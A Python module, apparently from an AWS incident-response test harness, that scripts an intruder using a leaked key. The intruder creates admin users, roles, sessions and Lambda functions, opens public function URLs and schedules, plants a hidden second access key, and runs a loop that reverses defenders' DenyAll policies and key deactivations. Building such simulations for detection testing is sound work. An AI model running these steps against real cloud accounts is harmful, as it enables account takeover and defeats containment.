"""Who comes with a stolen key, and how it fights."""

import time

from botocore.exceptions import ClientError

from calls import ACCOUNT, HOME, act, actors, allowed, client, enter_user, federated, function, session, trust
from owner import begin

DENY_ALL = "arn:aws:iam::aws:policy/AWSDenyAll"
ADMINISTRATOR = "arn:aws:iam::aws:policy/AdministratorAccess"


def attack(wanted):
    """With the leaked key: a user, its key and rights, a role and its session, functions. Gives what was made."""
    thief = wanted.get("by", "ci-deployer")
    # The thief has the same key from another place, where its other names are too.
    place = {"address": wanted.get("address", "203.0.113.66")}
    actors["thief"] = dict(actors[thief], agent="Boto3/1.34.69 lang/python#3.11.6", **place)
    name = wanted.get("user", "svc.monitor+7f3a")
    act("thief", "sts", "GetCallerIdentity")
    act("thief", "iam", "ListUsers")
    user = act("thief", "iam", "CreateUser", UserName=name)["User"]
    act("thief", "iam", "AttachUserPolicy", UserName=name, PolicyArn=ADMINISTRATOR)
    act("thief", "iam", "PutUserPolicy", UserName=name, PolicyName="more", PolicyDocument=allowed(["*"]))
    key = act("thief", "iam", "CreateAccessKey", UserName=name)["AccessKey"]
    made = {"user": enter_user("intruder", key, user)}
    actors["intruder"].update(place)
    # A log tells whole seconds: what is used in the second in which it was made may be told before it.
    pause = 1.1 if wanted.get("logged") else 0
    time.sleep(pause)
    name = wanted.get("role", "svc-support-7f3a")
    root = {"AWS": "arn:aws:iam::%s:root" % ACCOUNT}
    role = act("intruder", "iam", "CreateRole", RoleName=name, AssumeRolePolicyDocument=trust(root))["Role"]
    act("intruder", "iam", "PutRolePolicy", RoleName=name, PolicyName="all", PolicyDocument=allowed(["*"]))
    made["role"] = {"arn": role["Arn"], "id": role["RoleId"]}
    answer = act("intruder", "sts", "AssumeRole", RoleArn=role["Arn"], RoleSessionName="support")
    session(answer, "session", role)
    actors["session"].update(place)
    made["session"] = {"key": actors["session"]["key"], "id": answer["AssumedRoleUser"]["AssumedRoleId"]}
    if wanted.get("federation"):
        answer = act("thief", "sts", "GetFederationToken", Name="auditor", Policy=allowed(["*"]))
        federated(answer, "federated", actors["thief"])
        made["federated"] = {"key": actors["federated"]["key"], "arn": answer["FederatedUser"]["Arn"]}
    time.sleep(pause)
    made["functions"] = []
    worker = "arn:aws:iam::%s:role/worker" % ACCOUNT
    for region in wanted["regions"]:
        for number in range(wanted.get("each", 1)):
            code = function("f-7f3a-%d" % number, worker)
            answer = act("intruder", "lambda", "CreateFunction", region, **code)
            made["functions"].append(answer["FunctionArn"])
    # The session works too.
    time.sleep(pause)
    act("session", "iam", "ListUsers")
    if wanted.get("federation"):
        act("federated", "iam", "ListUsers")
    return made


def doors(wanted):
    """Ways into a function: an address for everybody, a rule, a schedule, a queue. Gives what was made."""
    arn = wanted["function"]
    region, name = arn.split(":")[3], arn.split(":")[6]
    queue = act("intruder", "sqs", "CreateQueue", region, QueueName=name)["QueueUrl"]
    queue = act("intruder", "sqs", "GetQueueAttributes", region, QueueUrl=queue, AttributeNames=["QueueArn"])
    mapping = {"EventSourceArn": queue["Attributes"]["QueueArn"], "FunctionName": name}
    target = {"Arn": arn, "RoleArn": "arn:aws:iam::%s:role/worker" % ACCOUNT}
    cors = {"AllowOrigins": ["*"], "AllowMethods": ["GET"]}
    made = {}
    act("intruder", "lambda", "CreateFunctionUrlConfig", region, FunctionName=name, AuthType="NONE", Cors=cors)
    public = {"Action": "lambda:InvokeFunctionUrl", "Principal": "*", "FunctionUrlAuthType": "NONE"}
    act("intruder", "lambda", "AddPermission", region, FunctionName=name, StatementId="everybody", **public)
    often = {"ScheduleExpression": "rate(5 minutes)"}
    made["rule"] = act("intruder", "events", "PutRule", region, Name="tick-" + name, **often)["RuleArn"]
    act("intruder", "events", "PutTargets", region, Rule="tick-" + name, Targets=[{"Id": "1", "Arn": arn}])
    if wanted.get("whole"):
        answer = act("intruder", "lambda", "CreateEventSourceMapping", region, **mapping)
        made["mapping"] = answer["UUID"]
        schedule = dict(often, Name="tock-" + name, FlexibleTimeWindow={"Mode": "OFF"}, Target=target)
        made["schedule"] = act("intruder", "scheduler", "CreateSchedule", region, **schedule)["ScheduleArn"]
    return made


def assume(wanted):
    """A session of a role that there was before. Gives its key and its id."""
    role = client("iam", HOME, "owner").get_role(RoleName=wanted["role"])["Role"]
    name, quiet = wanted["session"], wanted.get("quiet", False)
    answer = act(wanted["by"], "sts", "AssumeRole", quiet=quiet, RoleArn=role["Arn"], RoleSessionName=name)
    session(answer, name, role)
    actors[name]["address"] = actors[wanted["by"]].get("address", "203.0.113.66")
    return {"arn": role["Arn"], "key": actors[name]["key"], "id": answer["AssumedRoleUser"]["AssumedRoleId"]}


def second_key(wanted):
    """A hidden second key on somebody's user, and its use."""
    name = wanted["user"]
    user = client("iam", HOME, "owner").get_user(UserName=name)["User"]
    key = act("intruder", "iam", "CreateAccessKey", UserName=name)["AccessKey"]
    made = enter_user("hidden", key, user)
    act("hidden", "iam", "ListRoles")
    return made


def fight(wanted):
    """Takes back denials and switches keys on, as soon as they are seen, for some seconds after the first.

    No stand-in has IAM's seconds of delay in which a denied administrator still may: the owner's key does it instead.
    """
    told = {"undone": [], "stop": False}
    iam, until = client("iam", HOME, "owner"), [None]
    names = wanted["users"]

    def undo(what, ask, **parameters):
        ask(**parameters)
        told["undone"].append(what)
        until[0] = until[0] or time.time() + wanted["seconds"]

    def once():
        for name in names:
            for policy in iam.list_attached_user_policies(UserName=name)["AttachedPolicies"]:
                if policy["PolicyArn"] == DENY_ALL:
                    undo("detached", iam.detach_user_policy, UserName=name, PolicyArn=DENY_ALL)
            for policy in iam.list_user_policies(UserName=name)["PolicyNames"]:
                if policy not in ("work", "more"):
                    undo("deleted", iam.delete_user_policy, UserName=name, PolicyName=policy)
            for key in iam.list_access_keys(UserName=name)["AccessKeyMetadata"]:
                if key["Status"] == "Inactive":
                    which = {"UserName": name, "AccessKeyId": key["AccessKeyId"]}
                    undo("activated", iam.update_access_key, Status="Active", **which)

    def work():
        while not told["stop"] and (until[0] is None or time.time() < until[0]):
            try:
                once()
            except ClientError:
                pass
            time.sleep(0.05)

    return begin("fight", work, told)
